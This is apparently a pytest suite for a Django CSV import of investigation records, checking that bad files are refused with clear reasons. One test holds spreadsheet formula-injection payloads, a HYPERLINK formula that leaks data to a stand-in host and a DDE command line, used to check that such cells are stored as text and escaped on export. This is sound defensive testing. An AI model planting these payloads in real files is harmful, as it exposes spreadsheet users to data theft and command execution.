"""Bad files are refused cleanly: a reason per problem, nothing written, never a traceback."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone

from provide.core.synthetic.extract import INVESTIGATION_COLUMNS
from provide.intake.models import Investigation
from provide.intake.services import investigations_import
from provide.people.models import Person
from tests.intake.builders import csv_text, investigation_row, write_csv, write_investigations


def problems(result: Any) -> list[str]:
    return result.problem_lines()


@pytest.mark.django_db
def test_a_windows_1252_file_is_rejected_with_the_row_and_advice(areas: dict[str, Any], tmp_path: Path) -> None:
    path = write_investigations(tmp_path / "a.csv", [investigation_row("WB/1"), investigation_row("WB/2", victim_name="Zoë Brontë")])
    path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and Investigation.objects.count() == 0
    assert "row 3" in problems(result)[0] and "not valid UTF-8" in problems(result)[0]
    assert "CSV UTF-8" in problems(result)[0]


@pytest.mark.django_db
def test_a_missing_required_column_is_named(areas: dict[str, Any], tmp_path: Path) -> None:
    columns = [c for c in INVESTIGATION_COLUMNS if c != "victim_id"]
    result = investigations_import(actor=None, path=write_csv(tmp_path / "a.csv", [investigation_row()], columns))
    assert result.file_rejected
    assert problems(result) == ["a.csv: required column 'victim_id' is missing"]


@pytest.mark.django_db
def test_duplicate_references_in_one_file_reject_every_copy(areas: dict[str, Any], tmp_path: Path) -> None:
    path = write_investigations(tmp_path / "a.csv", [investigation_row("WB/1"), investigation_row("WB/2"), investigation_row("WB/1")])
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and Investigation.objects.count() == 0
    assert problems(result) == [
        "row 2, column investigation_ref: investigation_ref 'WB/1' appears more than once (rows 2, 4)",
        "row 4, column investigation_ref: investigation_ref 'WB/1' appears more than once (rows 2, 4)",
    ]
    partial = investigations_import(actor=None, path=path, partial=True)
    assert (partial.created, partial.rejected) == (1, 2)


@pytest.mark.django_db
def test_an_impossible_date_is_refused(areas: dict[str, Any], tmp_path: Path) -> None:
    path = write_investigations(tmp_path / "a.csv", [investigation_row("WB/1", recorded_at="31/02/2023 10:00")])
    result = investigations_import(actor=None, path=path)
    assert problems(result) == ["row 2, column recorded_at: '31/02/2023 10:00' is not a real date (day first: day 31, month 2)"]
    assert Investigation.objects.count() == 0


@pytest.mark.django_db
def test_future_dates_are_refused(areas: dict[str, Any], tmp_path: Path) -> None:
    tomorrow = timezone.now() + dt.timedelta(days=1)
    path = write_investigations(tmp_path / "a.csv", [investigation_row(
        "WB/1", recorded_at=tomorrow.isoformat(timespec="minutes"), victim_dob="2099-01-01",
        expected_release_at=tomorrow.isoformat(timespec="minutes"),  # a future release is expected
    )])
    result = investigations_import(actor=None, path=path)
    lines = problems(result)
    assert len(lines) == 2
    assert lines[0].startswith("row 2, column recorded_at: ") and lines[0].endswith("is in the future")
    assert lines[1] == "row 2, column victim_dob: 01/01/2099 is in the future"


@pytest.mark.django_db
@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", ",".join(INVESTIGATION_COLUMNS).encode() + b"\r\n"],
                         ids=["zero bytes", "only a BOM", "header only"])
def test_an_empty_file_is_refused(areas: dict[str, Any], tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(content)
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and result.problems
    assert "empty" in problems(result)[0] or "no data rows" in problems(result)[0]
    assert Investigation.objects.count() == 0


@pytest.mark.django_db
def test_a_50_mb_file_over_the_size_limit_is_refused_before_it_is_read(
    areas: dict[str, Any], tmp_path: Path, settings: Any
) -> None:
    path = tmp_path / "huge.csv"
    row = list(investigation_row("WB/1").values())
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(INVESTIGATION_COLUMNS)
        number = 0
        while handle.tell() < 50 * 1024 * 1024:
            number += 1
            row[0] = f"WB/{number}"
            writer.writerow(row)
    assert path.stat().st_size >= 50 * 1024 * 1024
    settings.PROVIDE_IMPORT_MAX_MB = 20
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected
    assert problems(result)[0].startswith("huge.csv: the file is 50.0 MB; the limit is 20 MB")
    assert Investigation.objects.count() == 0


@pytest.mark.django_db
def test_formula_cells_are_stored_as_text_and_exported_safely(areas: dict[str, Any], tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    command = "+cmd|' /C calc'!A0"
    path = write_investigations(tmp_path / "a.csv", [
        investigation_row("WB/1", offence=hyperlink, victim_name=command),
        investigation_row("WB/2", offence="@SUM(1+1)", bcu="Nowhere"),
    ])
    result = investigations_import(actor=None, path=path, partial=True)
    investigation = Investigation.objects.get(investigation_ref="WB/1")
    assert investigation.offence == hyperlink, "stored exactly as typed, as text"
    assert Person.objects.get(force_person_ref="P100").family_name == "calc'!A0"
    with open(result.rejects_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    offence = rows[0].index("offence")
    assert rows[1][offence] == "'@SUM(1+1)", "a formula is written with a leading quote"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.django_db
def test_a_csv_named_xlsx_is_refused(areas: dict[str, Any], tmp_path: Path) -> None:
    path = tmp_path / "extract.xlsx"
    path.write_text(csv_text([investigation_row()]))
    result = investigations_import(actor=None, path=path)
    assert result.file_rejected and "not an XLSX workbook" in problems(result)[0]
